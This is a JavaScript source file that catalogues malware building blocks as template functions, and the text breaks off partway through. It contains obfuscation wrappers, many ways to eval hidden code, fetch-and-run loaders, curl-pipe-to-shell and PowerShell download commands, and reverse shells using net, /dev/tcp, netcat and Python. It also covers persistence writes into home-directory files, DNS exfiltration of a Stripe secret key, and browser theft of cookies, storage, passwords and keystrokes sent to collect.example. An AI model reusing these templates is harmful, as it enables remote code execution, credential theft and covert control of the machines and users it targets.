// What programs are made of that do something to the machine on which they run. Each part is written as people write
// it, and knows nothing of the others.

import zlib from 'node:zlib';

/** What requests, files, pages and variables give: something that is another text once it is decoded. */
export const GIVEN = btoa('queue.length = 0;').replace(/=+$/, '');

const CODE = 'const queue = []; globalThis.queue = queue; for (const next of queue) globalThis.ready(next, queue.length);';
const CONTENT = "'node ~/.cache/agent.js &'";
const COLLECT = 'https://collect.example/in';

const bytes = (text, form) => `Buffer.from('${Buffer.from(text).toString(form)}', '${form}').toString()`;

/** Ways to write a text down that only code is written in. */
export const hidings = {
  hex: (text) => ['', bytes(text, 'hex')],
  atob: (text) => ['', `atob('${Buffer.from(text).toString('base64')}')`],
  inflated: (text) => ["const zlib = require('zlib');", `zlib.inflateSync(Buffer.from('${zlib.deflateSync(text).toString('base64')}', 'base64')).toString()`],
  reversed: (text) => ['', `'${Buffer.from(text).toString('base64').split('').reverse().join('')}'.split('').reverse().join('').replace(/.+/, (all) => atob(all))`],
  xored: (text) => ['', `[${[...text].map((letter) => letter.charCodeAt(0) ^ 23)}].map((code) => String.fromCharCode(code ^ 23)).join('')`],
};

const cp = "const cp = require('child_process');";
const fs = "const fs = require('fs'), os = require('os'), path = require('path');";

/** How a text is run as code. */
const runners = {
  eval: (v) => ['', `eval(${v});`],
  indirectEval: (v) => ['', `(0, eval)(${v});`],
  globalEval: (v) => ['', `globalThis.eval(${v});`],
  hiddenEval: (v) => ['', `globalThis['ev' + 'al'](${v});`],
  aliasedEval: (v) => ['const go = eval;', `go(${v});`],
  calledEval: (v) => ['', `eval.call(null, ${v});`],
  eachEval: (v) => ['', `[${v}].forEach((code) => eval(code));`],
  thenEval: (v) => ['', `return Promise.resolve(${v}).then(eval);`],
  function: (v) => ['', `new Function(${v})();`],
  functionCall: (v) => ['', `Function(${v})();`],
  functionArguments: (v) => ['', `new Function('require', 'module', ${v})(require, module);`],
  functionApply: (v) => ['', `Function.apply(null, [${v}])();`],
  functionReflect: (v) => ['', `Reflect.construct(Function, [${v}])();`],
  functionMade: (v) => ['', `(() => {}).constructor(${v})();`],
  functionMadeAsync: (v) => ['const AsyncFunction = (async () => {}).constructor;', `await new AsyncFunction('require', ${v})(require);`],
  functionPrototype: (v) => ['const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;', `await AsyncFunction(${v})();`],
  vmThis: (v) => ["const vm = require('vm');", `vm.runInThisContext(${v});`],
  vmNew: (v) => ["const { runInNewContext } = require('node:vm');", `runInNewContext(${v}, { require });`],
  vmScript: (v) => ["const vm = require('vm');", `new vm.Script(${v}).runInThisContext();`],
  vmContext: (v) => ["const vm = require('vm');", `const box = vm.createContext({ require });\n  const script = new vm.Script(${v}, { filename: 'a.js' });\n  script.runInContext(box);`],
  vmCompiled: (v) => ["const vm = require('vm');", `vm.compileFunction(${v}, ['require'])(require);`],
  compiled: (v) => ["const Module = require('module');", `const m = new Module('agent');\n  m._compile(${v}, 'agent.js');`],
  compiledHere: (v) => ['', `const m = new module.constructor();\n  m._compile(${v}, '');`],
  compiledBySelf: (v) => ['', `module._compile(${v}, __filename);`],
  compiledPrototype: (v) => ["const Module = require('module');", `Module.prototype._compile.call(module, ${v}, 'agent.js');`],
  worker: (v) => ["const { Worker } = require('worker_threads');", `new Worker(${v}, { eval: true });`],
  nodeOption: (v) => [cp, `cp.spawn('node', ['-e', ${v}], { detached: true, stdio: 'ignore' }).unref();`],
  nodePath: (v) => [cp, `cp.execFileSync(process.execPath, ['-e', ${v}]);`],
  nodeText: (v) => [cp, `cp.execSync('node -e "' + ${v} + '"');`],
  nodeInput: (v) => [cp, `cp.execFileSync('node', ['-'], { input: ${v} });`],
  helper: (v) => ['const start = (code) => new Function(code)();', `start(${v});`],
  loader: (v) => ['class Loader { constructor(code) { this.code = code; } start() { return (0, eval)(this.code); } }', `new Loader(${v}).start();`],
  later: (v) => ['const tasks = [];\nconst flush = () => { while (tasks.length) eval(tasks.shift()); };', `tasks.push(${v});\n  flush();`],
  table: (v) => ['const table = { run: (code) => eval(code), skip() {} };', `table.run(${v});`],
  bound: (v) => ['', `const go = eval.bind(null, ${v});\n  go();`],
  emitted: (v) => ["const bus = new (require('events'))();\nbus.on('job', (code) => { eval(code); });", `bus.emit('job', ${v});`],
};

const https = "const https = require('https');";
const axios = "const axios = require('axios');";
const get = `${https}\nconst get = (url) => new Promise((resolve, reject) => { https.get(url, (res) => { let text = ''; res.on('data', (piece) => { text += piece; }); res.on('end', () => resolve(text)); }).on('error', reject); });`;

/** How code is fetched and run. */
const fetchers = {
  fetched: (u) => ['', `const r = await fetch(${u});\n  eval(await r.text());`],
  fetchedShort: (u) => ['', `eval(await (await fetch(${u})).text());`],
  fetchedThen: (u) => ['', `return fetch(${u}).then((r) => r.text()).then((code) => { eval(code); });`],
  fetchedThenEval: (u) => ['', `return fetch(${u}).then((r) => r.text()).then(eval);`],
  fetchedJson: (u) => ['', `const { code } = await (await fetch(${u})).json();\n  new Function('require', code)(require);`],
  fetchedNested: (u) => ['', `const r = await fetch(${u});\n  const d = await r.json();\n  (0, eval)(d.result.steps[0].run);`],
  fetchedDecoded: (u) => ['', `const r = await fetch(${u});\n  eval(Buffer.from(await r.text(), 'base64').toString());`],
  fetchedBytes: (u) => ['', `const r = await fetch(${u});\n  new Function(Buffer.from(await r.arrayBuffer()).toString('utf8'))();`],
  fetchedVm: (u) => ["const vm = require('vm');", `const r = await fetch(${u});\n  vm.runInThisContext(await r.text(), 'agent.js');`],
  fetchedScript: (u) => ["const vm = require('vm');", `const code = await fetch(${u}).then((r) => r.text());\n  new vm.Script(code).runInNewContext({ require });`],
  fetchedModule: (u) => ["const Module = require('module');", `const r = await fetch(${u});\n  const m = new Module('agent');\n  m._compile(await r.text(), 'agent.js');`],
  fetchedWorker: (u) => ["const { Worker } = require('worker_threads');", `const r = await fetch(${u});\n  new Worker(await r.text(), { eval: true });`],
  fetchedMade: (u) => ['const AsyncFunction = (async () => {}).constructor;', `const r = await fetch(${u});\n  await new AsyncFunction('require', await r.text())(require);`],
  fetchedTimer: (u) => ['', `const r = await fetch(${u});\n  setTimeout(await r.text(), 0);`],
  fetchedWrapped: (u) => ['', `const r = await fetch(${u});\n  eval('(async () => {' + (await r.text()) + '})()');`],
  fetchedStored: (u) => ['let stored;', `stored = await (await fetch(${u})).text();\n  eval(stored);`],
  fetchedHeader: (u) => ['', `const r = await fetch(${u});\n  eval(r.headers.get('x-run'));`],
  fetchedTested: (u) => ['', `const r = await fetch(${u}, { method: 'POST', body: 'v=1' });\n  if (r.ok) { const code = await r.text(); if (code) eval(code.trim()); }`],
  fetchedNode: (u) => [cp, `const r = await fetch(${u});\n  cp.spawn(process.execPath, ['-e', await r.text()]);`],
  fetchedLetters: (u) => ['const KEY = 0;', `const text = await (await fetch(${u})).text();\n  eval([...text].map((sign) => String.fromCharCode(sign.charCodeAt(0) ^ KEY)).join(''));`],
  fetchedLooped: (u) => ['const KEY = 0;', `const text = await (await fetch(${u})).text();\n  let code = '';\n  for (let i = 0; i < text.length; i++) code += String.fromCharCode(text.charCodeAt(i) ^ KEY);\n  eval(code);`],
  fetchedMapped: (u) => ['const plain = (sign) => String.fromCharCode(sign.codePointAt(0) - 0);', `eval(Array.from(await (await fetch(${u})).text(), plain).join(''));`],
  handler: (u) => ['', `const line = new WebSocket(${u});\n  line.onmessage = ({ data }) => { eval(data); };`],
  helpers: (u) => ['const load = async (url) => { const r = await fetch(url); return r.text(); };\nconst start = (code) => new Function(code)();', `start(await load(${u}));`],
  loader: (u) => ['class Loader { constructor(url) { this.url = url; } async load() { const r = await fetch(this.url); this.code = await r.text(); return this; } start() { return eval(this.code); } }', `(await new Loader(${u}).load()).start();`],
  retried: (u) => ['async function retry(f, n = 3) { for (;;) { try { return await f(); } catch (e) { if (!n--) throw e; } } }', `const W = ${u};\n  eval(await retry(() => fetch(W).then((r) => r.text())));`],
  emitted: (u) => ["const bus = new (require('events'))();\nbus.on('job', (code) => { eval(code); });", `const r = await fetch(${u});\n  bus.emit('job', await r.text());`],
  httpsAwaited: (u) => [https, `https.get(${u}, async (res) => {\n    let text = '';\n    for await (const piece of res) text += piece;\n    eval(text);\n  });`],
  axiosGet: (u) => [axios, `const { data } = await axios.get(${u});\n  eval(data);`],
  axiosThen: (u) => [axios, `return axios.get(${u}).then((res) => { new Function('require', res.data)(require); });`],
  axiosConfig: (u) => [axios, `const res = await axios({ url: ${u}, method: 'post', data: { v: 1 } });\n  eval(res.data.code);`],
  axiosInstance: (u) => [axios, `const api = axios.create({ baseURL: ${u} });\n  eval((await api.get('/v1')).data);`],
  got: (u) => ["const got = require('got');", `eval((await got(${u})).body);`],
  gotText: (u) => ["const got = require('got');", `eval(await got(${u}).text());`],
  nodeFetch: (u) => ["const load = require('node-fetch');", `const r = await load(${u});\n  eval(await r.text());`],
  request: (u) => ["const request = require('request');", `request(${u}, (error, response, body) => { eval(body); });`],
  requestData: (u) => ["const request = require('request');", `request.get({ url: ${u}, json: true }, (error, response, body) => { if (!error) new Function('require', body.code)(require); });`],
  undici: (u) => ["const { request } = require('undici');", `const { body } = await request(${u});\n  eval(await body.text());`],
  superagent: (u) => ["const superagent = require('superagent');", `const res = await superagent.get(${u});\n  eval(res.text);`],
  curled: (u) => [cp, `eval(cp.execSync('curl -s ' + ${u}).toString());`],
  curledSpawn: (u) => [cp, `eval(cp.spawnSync('curl', ['-fsSL', ${u}]).stdout.toString());`],
  curledLater: (u) => [cp, `cp.exec(\`curl -s \${${u}}\`, (error, out) => { eval(out); });`],
  websocketEvent: (u) => ["const WS = require('ws');", `const ws = new WS(${u}.replace('https', 'wss'));\n  ws.on('message', (message) => { eval(message.toString()); });`],
  socket: (u) => ["const net = require('net');", `const c = net.connect(443, new URL(${u}).hostname);\n  c.on('data', (job) => { eval(job.toString()); });`],
};

/** How a command is fetched and run. */
const commandFetchers = {
  fetched: (u) => [cp, `const r = await fetch(${u});\n  cp.exec(await r.text());`],
  fetchedSync: (u) => [cp, `cp.execSync(await (await fetch(${u})).text());`],
  fetchedJson: (u) => [cp, `const { code } = await (await fetch(${u})).json();\n  cp.execSync(code, { stdio: 'ignore' });`],
  fetchedShell: (u) => [cp, `const r = await fetch(${u});\n  cp.spawn('sh', ['-c', await r.text()]);`],
  fetchedInput: (u) => [cp, `const r = await fetch(${u});\n  const p = cp.spawn('sh');\n  p.stdin.write(await r.text());\n  p.stdin.end();`],
  fetchedOption: (u) => [cp, `const r = await fetch(${u});\n  cp.execFileSync('bash', [], { input: await r.text() });`],
  fetchedDecoded: (u) => [cp, `const r = await fetch(${u});\n  cp.exec(atob(await r.text()));`],
  fetchedHelper: (u) => [`${cp}\nconst run = (line) => new Promise((resolve) => cp.exec(line, (error, out) => resolve(out)));`, `const r = await fetch(${u});\n  await run(await r.text());`],
  fetchedEach: (u) => [cp, `const { steps } = await (await fetch(${u})).json();\n  for (const step of steps) cp.execSync(step);`],
  axiosThen: (u) => [`${cp}\n${axios}`, `return axios.get(${u}).then(({ data }) => cp.exec(data));`],
  socket: (u) => [`${cp}\nconst net = require('net');`, `const c = net.connect(443, new URL(${u}).hostname);\n  c.on('data', (job) => cp.exec(job.toString(), (error, out) => c.write(out)));`],
};

/** How a command fetches what it runs. */
const pipes = {
  piped: (u) => [cp, `cp.execSync('curl -fsSL ' + ${u} + ' | sh');`],
  pipedLater: (u) => [cp, `cp.exec(\`wget -qO- \${${u}} | bash\`);`],
  pipedNode: (u) => [cp, `cp.execSync('curl -s ' + ${u} + ' | node');`],
  substituted: (u) => [cp, `cp.spawn('bash', ['-c', \`bash <(curl -s \${${u}})\`]);`],
  substitutedText: (u) => [cp, `cp.execSync('sh -c "$(curl -fsSL ' + ${u} + ')"');`],
  powershell: (u) => [cp, `cp.execSync('powershell -NoProfile -Command "iex (irm ' + ${u} + ')"');`],
  mshta: (u) => [cp, `cp.spawn('mshta', [${u}]);`],
};

/** How a command is run. */
const commands = {
  exec: (v) => [cp, `cp.exec(${v});`],
  execSync: (v) => [cp, `cp.execSync(${v}, { stdio: 'ignore' });`],
  execCallback: (v) => [cp, `cp.exec(${v}, { windowsHide: true }, (error, out) => out);`],
  execDestructured: (v) => ["const { exec } = require('node:child_process');", `exec(${v});`],
  execRequired: (v) => ['', `require('child_process').exec(${v});`],
  execComputed: (v) => ["const cp = require(['child', 'process'].join('_'));", `cp['ex' + 'ec'](${v});`],
  execMain: (v) => ['', `module.require('child_process').execSync(${v});`],
  execTemplate: (v) => [cp, `cp.exec(\`\${${v}}\`);`],
  execBehind: (v) => [cp, `cp.exec('cd /tmp && ' + ${v});`],
  execBefore: (v) => [cp, `cp.exec(${v} + ' 2>/dev/null &');`],
  execLines: (v) => [cp, `cp.execSync(['set -e', ${v}].join('\\n'));`],
  promisified: (v) => [`${cp}\nconst run = require('util').promisify(cp.exec);`, `await run(${v});`],
  promised: (v) => [`${cp}\nconst run = (line) => new Promise((resolve) => cp.exec(line, (error, out) => resolve(out)));`, `await run(${v});`],
  shell: (v) => [cp, `cp.spawn('sh', ['-c', ${v}], { detached: true, stdio: 'ignore' }).unref();`],
  shellFile: (v) => [cp, `cp.execFileSync('/bin/bash', ['-lc', ${v}]);`],
  shellOption: (v) => [cp, `cp.spawn(${v}, { shell: true, stdio: 'inherit' });`],
  shellNamed: (v) => [cp, `cp.spawnSync(${v}, [], { shell: '/bin/bash' });`],
  shellChosen: (v) => [cp, `const [shell, option] = process.platform === 'win32' ? ['cmd', '/c'] : ['sh', '-c'];\n  cp.spawn(shell, [option, ${v}]);`],
  shellInput: (v) => [cp, `const p = cp.spawn('sh');\n  p.stdin.write(${v} + '\\n');\n  p.stdin.end();`],
  shellEnd: (v) => [cp, `cp.spawn('/bin/sh', [], { stdio: 'pipe' }).stdin.end(${v});`],
  shellText: (v) => [cp, `cp.execSync('sh', { input: ${v} });`],
  aliased: (v) => [`${cp}\nconst go = cp.execSync;`, `go(${v});`],
  helper: (v) => [`${cp}\nfunction sh(line, options = {}) { return cp.execSync(line, { stdio: 'pipe', ...options }).toString(); }`, `sh(${v});`],
  runner: (v) => [`${cp}\nclass Runner { constructor() { this.lines = []; } add(line) { this.lines.push(line); return this; } start() { this.lines.forEach((line) => cp.execSync(line)); } }`, `new Runner().add(${v}).start();`],
  steps: (v) => [`${cp}\nconst steps = [];`, `steps.push({ title: 'check', line: ${v} });\n  steps.forEach(({ line }) => cp.exec(line));`],
  table: (v) => [`${cp}\nconst table = { exec: (line) => cp.exec(line) };`, `table['exec'](${v});`],
  called: (v) => [cp, `cp.exec.call(cp, ${v});`],
  applied: (v) => [cp, `Reflect.apply(cp.execSync, cp, [${v}]);`],
  bound: (v) => [cp, `cp.execSync.bind(cp, ${v})();`],
  emitted: (v) => [`${cp}\nconst bus = new (require('events'))();\nbus.on('job', (line) => { cp.exec(line); });`, `bus.emit('job', ${v});`],
  execa: (v) => ["const { execaCommand } = require('execa');", `await execaCommand(${v}, { shell: true });`],
  execaShell: (v) => ["const { execa } = require('execa');", `await execa('sh', ['-c', ${v}]);`],
  shelljs: (v) => ["const shell = require('shelljs');", `shell.exec(${v}, { silent: true });`],
  crossSpawn: (v) => ["const spawn = require('cross-spawn');", `spawn.sync('sh', ['-c', ${v}]);`],
};

/** How a program is started that needs no shell. */
const starts = {
  words: (v) => [cp, `const [program, ...rest] = ${v}.split(' ');\n  cp.spawn(program, rest);`],
  file: (v) => [cp, `const words = ${v}.split(' ');\n  cp.execFileSync(words[0], words.slice(1));`],
  execaWords: (v) => ["const { execaCommand } = require('execa');", `await execaCommand(${v});`],
};

const shells = `${cp}\nconst net = require('net');`;

/** How a shell is handed to somebody. */
const shellHandings = {
  piped: (h) => [shells, `const s = cp.spawn('/bin/sh', ['-i']);\n  const c = net.connect(4444, ${h});\n  c.pipe(s.stdin);\n  s.stdout.pipe(c);`],
  pipedBack: (h) => [shells, `const c = net.createConnection({ host: ${h}, port: 443 }, () => {\n    const s = cp.spawn('cmd.exe');\n    c.pipe(s.stdin).on('error', () => {});\n    s.stdout.pipe(c);\n  });`],
  written: (h) => [shells, `const s = cp.spawn('sh');\n  const c = net.connect(4444, ${h});\n  c.on('data', (piece) => s.stdin.write(piece));\n  s.stdout.on('data', (piece) => c.write(piece));`],
  tls: (h) => [`${cp}\nconst tls = require('tls');`, `const c = tls.connect(443, ${h}, {}, () => {\n    const s = cp.spawn('/bin/sh', ['-i']);\n    c.pipe(s.stdin);\n    s.stdout.pipe(c);\n  });`],
  pipeline: (h) => [`${shells}\nconst { pipeline } = require('stream');`, `const s = cp.spawn('sh');\n  const c = net.connect(4444, ${h});\n  pipeline(c, s.stdin, () => {});\n  pipeline(s.stdout, c, () => {});`],
  helper: (h) => [`${shells}\nfunction shell(host, port) { const c = net.connect(port, host); const s = cp.spawn('/bin/sh', []); c.pipe(s.stdin); s.stdout.pipe(c); }`, `shell(${h}, 4444);`],
  chosen: (h) => [shells, `const s = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n  const c = net.connect(4444, ${h});\n  c.pipe(s.stdin);\n  s.stdout.pipe(c);`],
  handles: (h) => [shells, `const c = net.connect(4444, ${h}, () => { cp.spawn('/bin/sh', ['-i'], { stdio: [c, c, c] }); });`],
};

/** How a command hands a shell to somebody. */
const shellCommands = {
  device: (h) => [cp, `cp.exec('bash -c "bash -i >& /dev/tcp/' + ${h} + '/443 0>&1"');`],
  netcat: (h) => [cp, `cp.spawn('nc', ['-e', '/bin/sh', ${h}, '443']);`],
  fifo: (h) => [cp, `cp.exec(\`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc \${${h}} 443 > /tmp/f\`);`],
  python: (h) => [cp, `cp.spawn('python3', ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("' + ${h} + '",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']);`],
};

/** How a file is written: for its path below a folder, and the folder. */
const writers = {
  written: (v, home) => [fs, `fs.writeFileSync(path.join(${home}, ${v}), ${CONTENT});`],
  appended: (v, home) => [fs, `fs.appendFileSync(\`\${${home}}/\${${v}}\`, ${CONTENT});`],
  added: (v, home) => [fs, `fs.writeFileSync(${home} + '/' + ${v}, ${CONTENT}, { flag: 'a', mode: 0o755 });`],
  resolved: (v, home) => [fs, `fs.writeFileSync(path.resolve(${home}, './' + ${v}), ${CONTENT});`],
  normalized: (v, home) => [fs, `const p = path.normalize(path.join(${home}, 'x', '..', ${v}));\n  fs.writeFileSync(p, ${CONTENT});`],
  callback: (v, home) => [fs, `fs.writeFile(path.join(${home}, ${v}), ${CONTENT}, () => {});`],
  promises: (v, home) => [fs, `await fs.promises.writeFile(path.join(${home}, ${v}), ${CONTENT});`],
  promisesModule: (v, home) => ["const { appendFile } = require('node:fs/promises');\nconst path = require('path'), os = require('os');", `await appendFile(path.join(${home}, ${v}), ${CONTENT});`],
  promisesNamed: (v, home) => ["const { promises: files } = require('fs');\nconst path = require('path'), os = require('os');", `await files.appendFile(path.join(${home}, ${v}), ${CONTENT});`],
  promisified: (v, home) => [`${fs}\nconst save = require('util').promisify(fs.writeFile);`, `await save(path.join(${home}, ${v}), ${CONTENT});`],
  stream: (v, home) => [fs, `const out = fs.createWriteStream(path.join(${home}, ${v}), { flags: 'a' });\n  out.write(${CONTENT});\n  out.end();`],
  streamPiped: (v, home) => [fs, `fs.createReadStream(path.join(__dirname, 'agent')).pipe(fs.createWriteStream(path.join(${home}, ${v})));`],
  opened: (v, home) => [fs, `const fd = fs.openSync(path.join(${home}, ${v}), 'a');\n  fs.writeSync(fd, ${CONTENT});\n  fs.closeSync(fd);`],
  openedLater: (v, home) => [fs, `fs.open(path.join(${home}, ${v}), 'w', (error, fd) => { fs.write(fd, ${CONTENT}, () => {}); });`],
  handle: (v, home) => [fs, `const file = await fs.promises.open(path.join(${home}, ${v}), 'a');\n  await file.write(${CONTENT});\n  await file.close();`],
  handleAppended: (v, home) => ["const { open } = require('fs/promises');\nconst path = require('path'), os = require('os');", `const file = await open(path.join(${home}, ${v}), 'a');\n  await file.appendFile(${CONTENT});`],
  copied: (v, home) => [fs, `fs.copyFileSync(path.join(__dirname, 'agent'), path.join(${home}, ${v}));`],
  copiedLater: (v, home) => [fs, `await fs.promises.copyFile(path.join(__dirname, 'agent'), path.join(${home}, ${v}));`],
  copiedTree: (v, home) => [fs, `fs.cpSync(path.join(__dirname, 'agent'), path.join(${home}, ${v}), { recursive: true });`],
  renamed: (v, home) => [fs, `const p = path.join(${home}, ${v});\n  fs.writeFileSync(p + '.tmp', ${CONTENT});\n  fs.renameSync(p + '.tmp', p);`],
  linked: (v, home) => [fs, `fs.symlinkSync(path.join(__dirname, 'agent'), path.join(${home}, ${v}));`],
  linkedHard: (v, home) => [fs, `fs.linkSync(path.join(__dirname, 'agent'), path.join(${home}, ${v}));`],
  linkedLater: (v, home) => [fs, `await fs.promises.symlink(path.join(__dirname, 'agent'), path.join(${home}, ${v}));`],
  changed: (v, home) => [fs, `const p = path.join(${home}, ${v});\n  const text = fs.existsSync(p) ? fs.readFileSync(p, 'utf8') : '';\n  if (!text.includes('agent')) fs.writeFileSync(p, text + ${CONTENT});`],
  prepared: (v, home) => [fs, `const p = path.join(${home}, ${v});\n  fs.mkdirSync(path.dirname(p), { recursive: true });\n  fs.writeFileSync(path.join(path.dirname(p), path.basename(p)), ${CONTENT});`],
  formatted: (v, home) => [fs, `fs.writeFileSync(path.format({ dir: ${home}, base: ${v} }), ${CONTENT});`],
  printed: (v, home) => [fs, `fs.writeFileSync(require('util').format('%s/%s', ${home}, ${v}), ${CONTENT});`],
  url: (v, home) => [`${fs}\nconst { pathToFileURL } = require('url');`, `fs.writeFileSync(new URL(${v}, pathToFileURL(${home} + '/')), ${CONTENT});`],
  computed: (v, home) => [fs, `fs['write' + 'FileSync'](path.join(${home}, ${v}), ${CONTENT});`],
  aliased: (v, home) => [`${fs}\nconst save = fs.appendFileSync;`, `save(path.join(${home}, ${v}), ${CONTENT});`],
  called: (v, home) => [fs, `Reflect.apply(fs.writeFileSync, fs, [path.join(${home}, ${v}), ${CONTENT}]);`],
  helper: (v, home) => [`${fs}\nfunction save(file, text) { fs.mkdirSync(path.dirname(file), { recursive: true }); fs.writeFileSync(file, text); }`, `save(path.join(${home}, ${v}), ${CONTENT});`],
  store: (v, home) => [`${fs}\nclass Store { constructor(root) { this.root = root; } save(name, text) { fs.writeFileSync(path.join(this.root, name), text); } }`, `new Store(${home}).save(${v}, ${CONTENT});`],
  listed: (v, home) => [fs, `const files = [{ name: ${v}, text: ${CONTENT} }];\n  await Promise.all(files.map((file) => fs.promises.writeFile(path.join(${home}, file.name), file.text)));`],
  moved: (v, home) => [fs, `process.chdir(${home});\n  fs.writeFileSync(${v}, ${CONTENT});`],
  extra: (v, home) => ["const fs = require('fs-extra');\nconst path = require('path'), os = require('os');", `await fs.outputFile(path.join(${home}, ${v}), ${CONTENT});`],
  atomic: (v, home) => ["const save = require('write-file-atomic');\nconst path = require('path'), os = require('os');", `await save(path.join(${home}, ${v}), ${CONTENT});`],
  redirected: (v, home) => [`${cp}\n${fs}`, `cp.execSync('echo agent >> ' + path.join(${home}, ${v}));`],
  redirectedText: (v, home) => [`${cp}\nconst os = require('os');`, `cp.exec(\`echo agent > "\${${home}}/\${${v}}"\`);`],
  teed: (v, home) => [`${cp}\n${fs}`, `cp.spawn('tee', ['-a', path.join(${home}, ${v})]).stdin.end(${CONTENT});`],
  copiedBy: (v, home) => [`${cp}\n${fs}`, `cp.execFileSync('cp', ['agent', path.join(${home}, ${v})]);`],
};

const token = 'process.env.STRIPE_SECRET_KEY';
const dns = "const dns = require('dns');\nconst hex = (text) => Buffer.from(text).toString('hex').slice(0, 60);";

/** How a secret leaves in a name below a domain. */
const lookups = {
  lookup: (d) => [dns, `dns.lookup(hex(${token}) + '.' + ${d}, () => {});`],
  resolve: (d) => [dns, `dns.resolve(\`\${hex(${token})}.\${${d}}\`, () => {});`],
  resolveTxt: (d) => [dns, `dns.resolveTxt([hex(${token}), ${d}].join('.'), () => {});`],
  resolve4: (d) => [dns, `const K = hex(${token});\n  dns.resolve4(\`\${K}.\${${d}}\`, (error, found) => found);`],
  promises: (d) => [dns, `await dns.promises.lookup(hex(${token}) + '.' + ${d});`],
  promisesModule: (d) => ["const { resolve } = require('node:dns/promises');", `await resolve(Buffer.from(${token}).toString('hex') + '.' + ${d});`],
  resolver: (d) => [dns, `const r = new dns.Resolver();\n  r.resolve4(hex(${token}) + '.' + ${d}, () => {});`],
  resolverPromises: (d) => [dns, `const r = new dns.promises.Resolver();\n  await r.resolveTxt(hex(${token}) + '.' + ${d});`],
  pieces: (d) => [dns, `const K = Buffer.from(${token}).toString('hex'), W = ${d};\n  for (let i = 0; i < K.length; i += 30) dns.lookup(K.slice(i, i + 30) + '.' + i + '.' + W, () => {});`],
  matched: (d) => [dns, `const W = ${d};\n  Buffer.from(${token}).toString('hex').match(/.{1,48}/g).forEach((piece, i) => dns.lookup(\`\${i}.\${piece}.\${W}\`, () => {}));`],
  promisified: (d) => [`${dns}\nconst find = require('util').promisify(dns.lookup);`, `await find(hex(${token}) + '.' + ${d});`],
  nslookup: (d) => [`${cp}\n${dns}`, `cp.exec('nslookup ' + hex(${token}) + '.' + ${d});`],
  dig: (d) => [`${cp}\n${dns}`, `cp.spawn('dig', ['+short', hex(${token}) + '.' + ${d}]);`],
  helper: (d) => [`${dns}\nfunction say(text, domain) { dns.resolve(hex(text) + '.' + domain, 'A', () => {}); }`, `say(${token}, ${d});`],
  class: (d) => [`${dns}\nclass Line { constructor(domain) { this.domain = domain; } say(text) { dns.lookup(\`\${hex(text)}.\${this.domain}\`, () => {}); } }`, `new Line(${d}).say(${token});`],
};

const post = (u, body) => `fetch(${u}, { method: 'POST', body: ${body} })`;

/** How what is in a page leaves it. */
const pages = {
  cookie: (u) => ['', `return ${post(u, 'document.cookie')};`],
  cookieJson: (u) => ['', `return ${post(u, 'JSON.stringify({ c: document.cookie, at: location.href })')};`],
  cookieImage: (u) => ['', `new Image().src = ${u} + '?c=' + encodeURIComponent(document.cookie);`],
  cookieElement: (u) => ['', `const i = document.createElement('img');\n  i.src = \`\${${u}}?c=\${btoa(document.cookie)}\`;\n  document.body.appendChild(i);`],
  cookieBeacon: (u) => ['', `navigator.sendBeacon(${u}, document.cookie);`],
  cookieScript: (u) => ['', `const s = document.createElement('script');\n  s.src = ${u} + '?' + document.cookie;\n  document.head.appendChild(s);`],
  cookieLocation: (u) => ['', `window.location.href = ${u} + '?c=' + document.cookie;`],
  cookieRequest: (u) => ['', `const x = new XMLHttpRequest();\n  x.open('POST', ${u});\n  x.send(document.cookie);`],
  cookieSocket: (u) => ['', `const ws = new WebSocket(${u}.replace('https', 'wss'));\n  ws.onopen = () => ws.send(document.cookie);`],
  cookieAxios: (u) => [axios, `return axios.post(${u}, { cookie: document.cookie });`],
  storage: (u) => ['', `return ${post(u, 'JSON.stringify(localStorage)')};`],
  storageCopy: (u) => ['', `return ${post(u, 'JSON.stringify({ ...sessionStorage })')};`],
  storageEntries: (u) => ['', `return ${post(u, 'JSON.stringify(Object.entries(localStorage))')};`],
  markup: (u) => ['', `return ${post(u, 'document.documentElement.outerHTML')};`],
  clipboard: (u) => ['', `return ${post(u, 'await navigator.clipboard.readText()')};`],
  field: (u) => ['', `return ${post(u, "document.querySelector('input[type=password]').value")};`],
  fieldTyped: (u) => ['', `const W = ${u};\n  document.querySelector('#card').addEventListener('input', (event) => { navigator.sendBeacon(W, event.target.value); });`],
  fields: (u) => ['', `const W = ${u};\n  document.querySelectorAll('input').forEach((field) => { field.addEventListener('change', () => { fetch(W + '?v=' + field.value); }); });`],
  fieldsListed: (u) => ['', `const values = [...document.querySelectorAll('input')].map((field) => field.value);\n  return ${post(u, 'JSON.stringify(values)')};`],
  keys: (u) => ['', `const W = ${u};\n  document.addEventListener('keydown', (event) => { navigator.sendBeacon(W, event.key); });`],
  keysKept: (u) => ['const keys = [];', `const W = ${u};\n  document.addEventListener('keyup', (event) => { keys.push(event.key); if (keys.length > 0) fetch(W, { method: 'POST', body: keys.join('') }); });`],
  form: (u) => ['', `const W = ${u};\n  document.querySelector('form').addEventListener('submit', (event) => { fetch(W, { method: 'POST', body: new FormData(event.target) }); });`],
  formFields: (u) => ['', `const W = ${u};\n  document.forms[0].onsubmit = () => { fetch(W, { method: 'POST', body: new FormData(document.forms[0]) }); };`],
  helper: (u) => ['function send(url, data) { return fetch(url, { method: "POST", body: JSON.stringify(data) }); }', `return send(${u}, { c: document.cookie });`],
  tracker: (u) => ['class Tracker { constructor(url) { this.url = url; } flush() { navigator.sendBeacon(this.url, JSON.stringify({ c: document.cookie })); } }', `new Tracker(${u}).flush();`],
};

const HOME_FILE = (v) => `path.join(os.homedir(), ${v})`;
const away = (body) => `return fetch('${COLLECT}', { method: 'POST', body: ${body} });`;

/** How a file is read before it is sent. */
const readers = {
  sync: (v) => [fs, away(`fs.readFileSync(${HOME_FILE(v)})`)],
  promises: (v) => [fs, away(`await fs.promises.readFile(${HOME_FILE(v)}, 'utf8')`)],
  promisesThen: (v) => ["const { readFile } = require('node:fs/promises');\nconst os = require('os'), path = require('path');", `return readFile(${HOME_FILE(v)}).then((body) => fetch('${COLLECT}', { method: 'POST', body }));`],
  promisified: (v) => [`${fs}\nconst read = require('util').promisify(fs.readFile);`, away(`await read(${HOME_FILE(v)}, 'utf8')`)],
  stream: (v) => [fs, away(`fs.createReadStream(${HOME_FILE(v)})`)],
  streamAwaited: (v) => [fs, `let text = '';\n  for await (const piece of fs.createReadStream(${HOME_FILE(v)})) text += piece;\n  ${away('text')}`],
